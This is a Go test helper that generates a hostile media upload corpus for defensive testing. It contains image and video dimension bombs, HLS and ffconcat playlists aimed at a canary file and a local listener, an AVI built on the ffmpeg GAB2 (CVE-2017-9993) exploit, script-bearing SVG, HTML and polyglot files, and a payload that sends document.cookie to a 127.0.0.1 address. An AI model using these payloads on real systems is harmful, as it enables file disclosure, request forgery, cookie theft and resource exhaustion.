package main

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/png"
	"math/rand/v2"
	"slices"
)

// The files of the hostile media corpus (hostile_test.go), all made here
// from a few bytes or from images drawn in Go: nothing is committed.

// outcome kinds a hostile file may end in.
const (
	wantRefused = "refused" // the upload answers a JSON 4xx and keeps nothing
	wantFailed  = "failed"  // accepted, and its job ends failed with a reason
	wantSafe    = "safe"    // real media: processed, nothing read or served but itself
)

// hostileFile is one file of the corpus and what Acervo must make of it.
type hostileFile struct {
	name   string // the file name it is uploaded under
	what   string // what it is, for the report
	data   []byte
	want   string // wantRefused, wantFailed or wantSafe
	reason string // for wantFailed: a word the job's error must hold
}

// corpusTargets are what the tricks point at: a file outside the data
// folder and a local HTTP address, neither of which anything may touch.
type corpusTargets struct {
	canary string // absolute path of the canary file
	http   string // base URL of a listener that must see no connection
}

// hostileCorpus builds every file. The photo bombs keep real, tiny image
// data behind headers that declare sizes no camera makes, so only the
// dimension check stands between them and a multi-gigabyte allocation.
func hostileCorpus(tg corpusTargets, silentFLAC []byte) []hostileFile {
	small := drawJPEG(7, 64, 48, 24, 85)
	hlsFile := hlsPlaylist("file://" + tg.canary)
	hlsHTTP := hlsPlaylist(tg.http + "/segmento.ts")
	return []hostileFile{
		{name: "bomba.png", what: "PNG declaring 30000×30000", data: bombPNG(30000, 30000), want: wantFailed, reason: "250 MP limit"},
		{name: "bomba.gif", what: "GIF declaring 65535×65535", data: bombGIF(65535, 65535), want: wantRefused},
		{name: "bomba.jpg", what: "JPEG whose SOF declares 65000×65000", data: patchSOF(small, 65000, 65000), want: wantFailed, reason: "250 MP limit"},
		{name: "bomba.tif", what: "TIFF declaring 100000×100000", data: bombTIFF(100000, 100000), want: wantFailed, reason: "250 MP limit"},
		{name: "bomba.webp", what: "WebP (VP8X) declaring 20000×20000", data: bombWebP(20000, 20000), want: wantFailed, reason: "250 MP limit"},
		{name: "cortada.jpg", what: "JPEG cut in half", data: drawJPEG(8, 640, 480, 24, 85)[:20000], want: wantFailed, reason: "truncated"},
		{name: "cortada.png", what: "PNG cut in half", data: firstHalf(noisyPNG(9, 320, 240)), want: wantFailed, reason: "truncated"},
		{name: "basura.jpg", what: "random bytes named .jpg", data: noiseBytes(10, 4096), want: wantRefused},
		{name: "vacia.jpg", what: "empty file named .jpg", data: nil, want: wantRefused},
		{name: "lista-archivo.mp4", what: "HLS playlist of file:// the canary, named .mp4", data: hlsFile, want: wantRefused},
		{name: "lista-http.mp4", what: "HLS playlist of http://127.0.0.1 (listener), named .mp4", data: hlsHTTP, want: wantRefused},
		{name: "concat.mov", what: "ffconcat list of the canary, named .mov", data: []byte("ffconcat version 1.0\nfile " + tg.canary + "\nduration 2\n"), want: wantRefused},
		{name: "lista-con-ftyp.mp4", what: "HLS playlist behind an MP4 ftyp box (passes the sniffer)", data: slices.Concat(ftypBox(), hlsFile), want: wantFailed, reason: "unsupported format"},
		{name: "gab2.avi", what: "AVI whose GAB2 subtitle holds an HLS playlist of the canary, no video", data: gab2AVI(hlsFile, nil, 0, 0), want: wantFailed, reason: "no decodable audio or video"},
		{name: "gab2-video.avi", what: "real MJPEG AVI with a GAB2 subtitle holding HLS playlists of the canary and the listener", data: gab2AVI(slices.Concat(hlsFile, hlsHTTP), small, 64, 48), want: wantSafe},
		{name: "gigante.avi", what: "MJPEG AVI whose headers and frames declare 16384×16384", data: gab2AVI(nil, patchSOF(small, 16384, 16384), 16384, 16384), want: wantFailed, reason: "16384×16384"},
		{name: "script.svg", what: "SVG with <script>", data: []byte(svgScript), want: wantRefused},
		{name: "script-svg.jpg", what: "SVG with <script> named .jpg", data: []byte(svgScript), want: wantRefused},
		{name: "script-html.png", what: "HTML with <script> named .png", data: []byte(htmlScript), want: wantRefused},
		{name: "poliglota.jpg", what: "JPEG with a <script> comment and a ZIP (HTML inside) appended", data: jpegZip(small), want: wantSafe},
		{name: "poliglota.gif", what: "GIF89a/JavaScript polyglot", data: []byte(gifJS), want: wantRefused},
		{name: "externo.pdf", what: "PDF whose page content is the canary (external stream /F), with JavaScript on open and a link to the listener", data: externalPDF(tg), want: wantSafe},
		{name: "diez-horas.flac", what: "FLAC whose STREAMINFO declares 10 h of silence, holding 2 s", data: flacDeclaring(silentFLAC, 10*3600*8000), want: wantSafe},
	}
}

const (
	svgScript  = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/v1/tokens",{method:"POST"})</script><rect width="10" height="10"/></svg>`
	htmlScript = "<!DOCTYPE html><html><body><script>document.location='http://127.0.0.1/?c='+document.cookie</script></body></html>"
	// A GIF header whose bytes are also JavaScript: GIF89a/*…*/=alert().
	gifJS = "GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=0;alert(document.domain);//\x00\x3b"
)

// hlsPlaylist is a one-segment HLS playlist of url.
func hlsPlaylist(url string) []byte {
	return []byte("#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXTINF:2.0,\n" + url + "\n#EXT-X-ENDLIST\n")
}

// externalPDF is a one-page PDF whose content stream lives in another
// file (PDF's external streams: the stream dictionary's /F names it), that
// runs JavaScript when opened and links to a URL: a renderer or text
// extractor that followed any of them would read or fetch what it names.
func externalPDF(tg corpusTargets) []byte {
	return []byte("%PDF-1.4\n" +
		"1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>> endobj\n" +
		"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n" +
		"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Annots[6 0 R]>> endobj\n" +
		"4 0 obj <</Length 0/F (" + tg.canary + ")>> stream\nendstream\nendobj\n" +
		"5 0 obj <</S/JavaScript/JS(this.submitForm\\(\"" + tg.http + "/\"\\))>> endobj\n" +
		"6 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(" + tg.http + "/enlace)>>>> endobj\n" +
		"trailer <</Root 1 0 R>>\n%%EOF\n")
}

// ftypBox is the ftyp box an MP4 starts with: enough for a sniffer that
// looks at brands alone.
func ftypBox() []byte {
	b := binary.BigEndian.AppendUint32(nil, 24)
	return append(b, "ftypisom\x00\x00\x02\x00isomiso2"...)
}

// pngChunk appends one PNG chunk with its CRC.
func pngChunk(b *bytes.Buffer, typ string, data []byte) {
	binary.Write(b, binary.BigEndian, uint32(len(data)))
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	b.WriteString(typ)
	b.Write(data)
	binary.Write(b, binary.BigEndian, crc.Sum32())
}

// bombPNG is a valid, tiny PNG whose header declares w×h pixels.
func bombPNG(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	pngChunk(&b, "IHDR", ihdr)
	pngChunk(&b, "IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})
	pngChunk(&b, "IEND", nil)
	return b.Bytes()
}

// bombGIF declares a w×h screen and image with one byte of LZW data.
func bombGIF(w, h uint16) []byte {
	b := []byte("GIF89a")
	b = binary.LittleEndian.AppendUint16(b, w)
	b = binary.LittleEndian.AppendUint16(b, h)
	b = append(b, 0, 0, 0, ',', 0, 0, 0, 0)
	b = binary.LittleEndian.AppendUint16(b, w)
	b = binary.LittleEndian.AppendUint16(b, h)
	return append(b, 0, 2, 2, 0x4c, 0x01, 0, ';')
}

// patchSOF rewrites the frame size of every SOF0/SOF2 marker of a JPEG.
func patchSOF(jpg []byte, w, h uint16) []byte {
	out := bytes.Clone(jpg)
	for i := 2; i+9 < len(out); i++ {
		if out[i] == 0xFF && (out[i+1] == 0xC0 || out[i+1] == 0xC2) {
			binary.BigEndian.PutUint16(out[i+5:], h)
			binary.BigEndian.PutUint16(out[i+7:], w)
		}
	}
	return out
}

// bombTIFF is a little-endian grey TIFF whose IFD declares w×h and holds
// 16 bytes of strip.
func bombTIFF(w, h uint32) []byte {
	type entry struct {
		tag, typ uint16
		val      uint32
	}
	const short, long = 3, 4
	entries := []entry{
		{256, long, w}, {257, long, h}, {258, short, 8}, {259, short, 1}, {262, short, 1},
		{273, long, 0}, // strip offset, set below
		{277, short, 1}, {278, long, h}, {279, long, 16},
	}
	b := []byte("II*\x00")
	b = binary.LittleEndian.AppendUint32(b, 8)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(entries)))
	stripAt := uint32(8 + 2 + 12*len(entries) + 4)
	for _, e := range entries {
		if e.tag == 273 {
			e.val = stripAt
		}
		b = binary.LittleEndian.AppendUint16(b, e.tag)
		b = binary.LittleEndian.AppendUint16(b, e.typ)
		b = binary.LittleEndian.AppendUint32(b, 1)
		if e.typ == short {
			b = binary.LittleEndian.AppendUint16(b, uint16(e.val))
			b = append(b, 0, 0)
		} else {
			b = binary.LittleEndian.AppendUint32(b, e.val)
		}
	}
	b = binary.LittleEndian.AppendUint32(b, 0) // no next IFD
	return append(b, make([]byte, 16)...)
}

// bombWebP is an extended (VP8X) WebP whose canvas is w×h.
func bombWebP(w, h uint32) []byte {
	vp8x := []byte{0, 0, 0, 0}
	vp8x = append(vp8x, byte(w-1), byte((w-1)>>8), byte((w-1)>>16))
	vp8x = append(vp8x, byte(h-1), byte((h-1)>>8), byte((h-1)>>16))
	// A few bytes of lossless image (signature 0x2f, a 1×1 size): never
	// read, the canvas size is refused first.
	vp8l := []byte{0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0x00}
	body := []byte("WEBP")
	body = append(body, riffChunk("VP8X", vp8x)...)
	body = append(body, riffChunk("VP8L", vp8l)...)
	return riffChunk("RIFF", body)
}

// riffChunk is a RIFF chunk: id, little-endian size, data, pad byte.
func riffChunk(id string, data []byte) []byte {
	b := append([]byte(id), binary.LittleEndian.AppendUint32(nil, uint32(len(data)))...)
	b = append(b, data...)
	if len(data)%2 == 1 {
		b = append(b, 0)
	}
	return b
}

func riffList(typ string, chunks ...[]byte) []byte {
	return riffChunk("LIST", append([]byte(typ), bytes.Join(chunks, nil)...))
}

func le32s(vs ...uint32) []byte {
	var b []byte
	for _, v := range vs {
		b = binary.LittleEndian.AppendUint32(b, v)
	}
	return b
}

// gab2AVI is an AVI in the shape of the known ffmpeg exploit: a "txts"
// stream whose chunk starts "GAB2" and carries a playlist for ffmpeg to
// probe as a subtitle file (ffmpeg before the 2017 fix for CVE-2017-9993
// opened it with the HLS demuxer and read whatever it listed; since, it
// takes only SRT or ASS there, and Acervo's format allowlist, passed down
// to nested demuxers, would refuse HLS anyway). With frame, it also carries an
// MJPEG video stream of w×h (as declared in its headers) of 25 copies of
// frame, so the file is otherwise a real video.
func gab2AVI(playlist, frame []byte, w, h uint32) []byte {
	var strls, movi [][]byte
	streams := uint32(0)
	if frame != nil {
		strh := append([]byte("vidsMJPG"), le32s(0, 0, 0, 1, 25, 0, 25, uint32(len(frame)), 0xFFFFFFFF, 0)...)
		strh = binary.LittleEndian.AppendUint16(strh, 0)
		strh = binary.LittleEndian.AppendUint16(strh, 0)
		strh = binary.LittleEndian.AppendUint16(strh, uint16(min(w, 32767)))
		strh = binary.LittleEndian.AppendUint16(strh, uint16(min(h, 32767)))
		bih := le32s(40, w, h)
		bih = append(bih, 1, 0, 24, 0)
		bih = append(bih, "MJPG"...)
		bih = append(bih, le32s(w*h*3, 0, 0, 0, 0)...)
		strls = append(strls, riffList("strl", riffChunk("strh", strh), riffChunk("strf", bih)))
		for range 25 {
			movi = append(movi, riffChunk("00dc", frame))
		}
		streams++
	}
	if playlist != nil {
		tag := string([]byte{'0', byte('0' + streams)}) + "tx"
		strh := append([]byte("txts\x00\x00\x00\x00"), le32s(0, 0, 0, 1, 25, 0, 1, uint32(len(playlist)+20), 0xFFFFFFFF, 0)...)
		strh = append(strh, make([]byte, 8)...)
		strls = append(strls, riffList("strl", riffChunk("strh", strh), riffChunk("strf", make([]byte, 40))))
		// "GAB2\0", version 2, an empty UTF-16 title, flags, the size.
		gab := append([]byte("GAB2\x00\x02\x00"), le32s(0)...)
		gab = append(gab, 0, 0)
		gab = append(gab, le32s(uint32(len(playlist)))...)
		gab = append(gab, playlist...)
		movi = append([][]byte{riffChunk(tag, gab)}, movi...)
		streams++
	}
	avih := le32s(40000, 0, 0, 0, 25, 0, streams, 1<<20, w, h, 0, 0, 0, 0)
	hdrl := riffList("hdrl", append([][]byte{riffChunk("avih", avih)}, strls...)...)
	return riffChunk("RIFF", append([]byte("AVI "), append(hdrl, riffList("movi", movi...)...)...))
}

// jpegZip is a real JPEG with a comment holding a script, then a ZIP
// archive holding an HTML page: a viewer opens it as a photo, an unzip
// tool as an archive, a browser sniffing it might run the script.
func jpegZip(jpg []byte) []byte {
	com := []byte("<script>alert(document.domain)</script>")
	seg := append([]byte{0xFF, 0xFE}, byte((len(com)+2)>>8), byte(len(com)+2))
	out := append(append(bytes.Clone(jpg[:2]), append(seg, com...)...), jpg[2:]...)
	var z bytes.Buffer
	zw := zip.NewWriter(&z)
	f, _ := zw.Create("index.html")
	f.Write([]byte(htmlScript))
	zw.Close()
	return append(out, z.Bytes()...)
}

// flacDeclaring patches the total samples of a FLAC's STREAMINFO (the
// first metadata block, right after "fLaC") to samples.
func flacDeclaring(flac []byte, samples uint64) []byte {
	out := bytes.Clone(flac)
	si := out[8:] // "fLaC", the block header, then STREAMINFO
	si[13] = si[13]&0xF0 | byte(samples>>32)&0x0F
	binary.BigEndian.PutUint32(si[14:], uint32(samples))
	return out
}

func noisyPNG(seed uint64, w, h int) []byte {
	rng := rand.New(rand.NewPCG(seed, 1))
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range img.Pix {
		img.Pix[i] = uint8(rng.Uint32())
	}
	var b bytes.Buffer
	png.Encode(&b, img)
	return b.Bytes()
}

func firstHalf(b []byte) []byte { return b[:len(b)/2] }

func noiseBytes(seed uint64, n int) []byte {
	rng := rand.New(rand.NewPCG(seed, 2))
	b := make([]byte, n)
	for i := range b {
		b[i] = uint8(rng.Uint32())
	}
	// Not by chance a format's magic number.
	return append([]byte("\x00\x13"), b...)
}
